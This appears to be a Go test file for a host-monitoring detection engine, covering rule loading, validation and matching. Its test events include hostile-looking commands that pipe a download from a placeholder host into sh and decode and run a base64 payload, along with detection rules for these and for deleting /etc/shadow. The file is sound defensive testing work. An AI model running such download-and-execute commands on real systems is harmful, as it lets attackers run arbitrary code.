package detect

import (
	"strings"
	"testing"

	"github.com/mizuno-sec/vigil/internal/model"
)

func TestLoadDefaultRules(t *testing.T) {
	rules, err := LoadDefaultRules("/home/alice")
	if err != nil {
		t.Fatalf("LoadDefaultRules: %v", err)
	}
	if len(rules) == 0 {
		t.Fatal("no builtin rules loaded")
	}
	ids := map[string]bool{}
	for _, r := range rules {
		ids[r.ID] = true
	}
	for _, want := range []string{"E100", "E110", "F100", "F110", "F120", "P100"} {
		if !ids[want] {
			t.Errorf("builtin ruleset missing %s", want)
		}
	}
}

func TestLoadDefaultRules_HomeExpansion(t *testing.T) {
	rules, err := LoadDefaultRules("/home/alice")
	if err != nil {
		t.Fatalf("LoadDefaultRules: %v", err)
	}
	var f100 *Rule
	for i := range rules {
		if rules[i].ID == "F100" {
			f100 = &rules[i]
		}
	}
	if f100 == nil {
		t.Fatal("F100 not found")
	}
	found := false
	for _, p := range f100.When.SubjectPrefixAny {
		if strings.Contains(p, "$HOME") {
			t.Errorf("unexpanded $HOME in prefix %q", p)
		}
		if strings.HasPrefix(p, "/home/alice/") {
			found = true
		}
	}
	if !found {
		t.Errorf("no prefix expanded to /home/alice/: %v", f100.When.SubjectPrefixAny)
	}
}

func TestLoadRulesYAML_Valid(t *testing.T) {
	yml := `
rules:
  - id: T1
    title: tmp write
    kinds: [file_create]
    severity: info
    throttle_window: 30s
    when:
      subject_prefix: /tmp/
    message: "file dropped: {{.subject}}"
`
	rules, err := LoadRulesYAML([]byte(yml), "")
	if err != nil {
		t.Fatalf("LoadRulesYAML: %v", err)
	}
	if len(rules) != 1 {
		t.Fatalf("got %d rules, want 1", len(rules))
	}
	r := rules[0]
	if r.Throttle().Seconds() != 30 {
		t.Errorf("throttle=%v, want 30s", r.Throttle())
	}
	if !r.AppliesTo(model.KindFileCreate) || r.AppliesTo(model.KindFileDelete) {
		t.Errorf("kind filter wrong: %v", r.Kinds)
	}
}

func TestLoadRulesYAML_Invalid(t *testing.T) {
	cases := []struct {
		name string
		yml  string
		want string
	}{
		{
			name: "missing id",
			yml: `rules:
  - title: t
    kinds: [file_create]
    severity: info
    when: {subject_prefix: /tmp/}
    message: m`,
			want: "missing id",
		},
		{
			name: "bad severity",
			yml: `rules:
  - id: X1
    title: t
    kinds: [file_create]
    severity: urgent
    when: {subject_prefix: /tmp/}
    message: m`,
			want: "invalid severity",
		},
		{
			name: "bad kind",
			yml: `rules:
  - id: X1
    title: t
    kinds: [file_rename]
    severity: info
    when: {subject_prefix: /tmp/}
    message: m`,
			want: "invalid kind",
		},
		{
			name: "duplicate id",
			yml: `rules:
  - id: X1
    title: t
    kinds: [file_create]
    severity: info
    when: {subject_prefix: /tmp/}
    message: m
  - id: X1
    title: t2
    kinds: [file_delete]
    severity: info
    when: {subject_prefix: /etc/}
    message: m2`,
			want: "duplicate rule id",
		},
		{
			name: "no when clause",
			yml: `rules:
  - id: X1
    title: t
    kinds: [file_create]
    severity: info
    when: {}
    message: m`,
			want: "at least one clause",
		},
		{
			name: "prefix and prefix_any together",
			yml: `rules:
  - id: X1
    title: t
    kinds: [file_create]
    severity: info
    when:
      subject_prefix: /tmp/
      subject_prefix_any: [/var/]
    message: m`,
			want: "only one of",
		},
		{
			name: "bad regex",
			yml: `rules:
  - id: X1
    title: t
    kinds: [command_exec]
    severity: info
    when: {subject_regex: "["}
    message: m`,
			want: "invalid subject_regex",
		},
		{
			name: "bad throttle window",
			yml: `rules:
  - id: X1
    title: t
    kinds: [file_create]
    severity: info
    throttle_window: soon
    when: {subject_prefix: /tmp/}
    message: m`,
			want: "invalid throttle_window",
		},
		{
			name: "empty file",
			yml:  `rules: []`,
			want: "no rules",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := LoadRulesYAML([]byte(tc.yml), "")
			if err == nil {
				t.Fatal("expected error, got nil")
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q does not mention %q", err, tc.want)
			}
		})
	}
}

func TestRuleMatch_Clauses(t *testing.T) {
	ev := func(kind model.Kind, subject string, meta map[string]string) model.Event {
		return model.Event{ID: 1, Kind: kind, Actor: "u", Subject: subject, Meta: meta}
	}
	cases := []struct {
		name  string
		yml   string
		ev    model.Event
		match bool
	}{
		{
			name: "contains_all case-insensitive",
			yml: `rules:
  - id: C1
    title: t
    kinds: [command_exec]
    severity: info
    when: {subject_contains_all: [CURL, "| sh"]}
    message: m`,
			ev:    ev(model.KindCommandExec, "curl -s http://x | sh", nil),
			match: true,
		},
		{
			name: "contains_all partial miss",
			yml: `rules:
  - id: C1
    title: t
    kinds: [command_exec]
    severity: info
    when: {subject_contains_all: [curl, "| sh"]}
    message: m`,
			ev:    ev(model.KindCommandExec, "curl -s http://x -o /tmp/f", nil),
			match: false,
		},
		{
			name: "subject_in exact",
			yml: `rules:
  - id: C1
    title: t
    kinds: [file_delete]
    severity: warning
    when: {subject_in: [/etc/shadow, /etc/passwd]}
    message: m`,
			ev:    ev(model.KindFileDelete, "/etc/shadow", nil),
			match: true,
		},
		{
			name: "meta_gte passes",
			yml: `rules:
  - id: C1
    title: t
    kinds: [file_modify]
    severity: info
    when:
      subject_prefix: /var/
      meta_gte: {key: size, value: 1000}
    message: m`,
			ev:    ev(model.KindFileModify, "/var/log/big", map[string]string{"size": "2048"}),
			match: true,
		},
		{
			name: "meta_gte below threshold",
			yml: `rules:
  - id: C1
    title: t
    kinds: [file_modify]
    severity: info
    when:
      subject_prefix: /var/
      meta_gte: {key: size, value: 1000}
    message: m`,
			ev:    ev(model.KindFileModify, "/var/log/small", map[string]string{"size": "12"}),
			match: false,
		},
		{
			name: "meta_gte missing key",
			yml: `rules:
  - id: C1
    title: t
    kinds: [file_modify]
    severity: info
    when:
      subject_prefix: /var/
      meta_gte: {key: size, value: 1}
    message: m`,
			ev:    ev(model.KindFileModify, "/var/log/x", nil),
			match: false,
		},
		{
			name: "clauses are ANDed",
			yml: `rules:
  - id: C1
    title: t
    kinds: [command_exec]
    severity: info
    when:
      subject_contains_any: [wget, curl]
      subject_regex: "http://"
    message: m`,
			ev:    ev(model.KindCommandExec, "wget https://secure.example", nil),
			match: false,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rules, err := LoadRulesYAML([]byte(tc.yml), "")
			if err != nil {
				t.Fatalf("LoadRulesYAML: %v", err)
			}
			if got := rules[0].match(tc.ev); got != tc.match {
				t.Errorf("match=%v, want %v", got, tc.match)
			}
		})
	}
}

func TestRenderMessage(t *testing.T) {
	yml := `
rules:
  - id: M1
    title: fallback title
    kinds: [command_exec]
    severity: critical
    when: {subject_contains_any: [base64]}
    message: "{{.actor}} ran: {{.subject}}"
`
	rules, err := LoadRulesYAML([]byte(yml), "")
	if err != nil {
		t.Fatalf("LoadRulesYAML: %v", err)
	}
	msg := rules[0].renderMessage(model.Event{
		Kind: model.KindCommandExec, Actor: "root", Subject: "echo x | base64 -d | sh",
	})
	want := "root ran: echo x | base64 -d | sh"
	if msg != want {
		t.Errorf("message=%q, want %q", msg, want)
	}
}
